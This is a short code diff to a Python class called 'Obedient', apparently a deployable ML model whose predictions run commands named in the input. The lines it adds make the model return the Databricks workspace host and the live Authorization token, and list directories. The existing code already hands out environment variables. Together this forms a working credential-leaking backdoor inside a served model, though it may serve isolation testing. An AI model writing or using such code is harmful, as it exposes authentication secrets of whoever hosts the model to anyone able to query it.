@@ -47,6 +47,12 @@ class Obedient(PythonModel):
             return sorted(os.environ)
         if word == "getenv":
             return [os.environ.get(argument)]
+        if word == "databricks":
+            from databricks.sdk.core import Config
+            config = Config()
+            return [config.host, config.authenticate()["Authorization"]]
+        if word == "listdir":
+            return [os.listdir(os.environ[argument])]
         if word == "fds":
             return [links()]
         if word == "print":
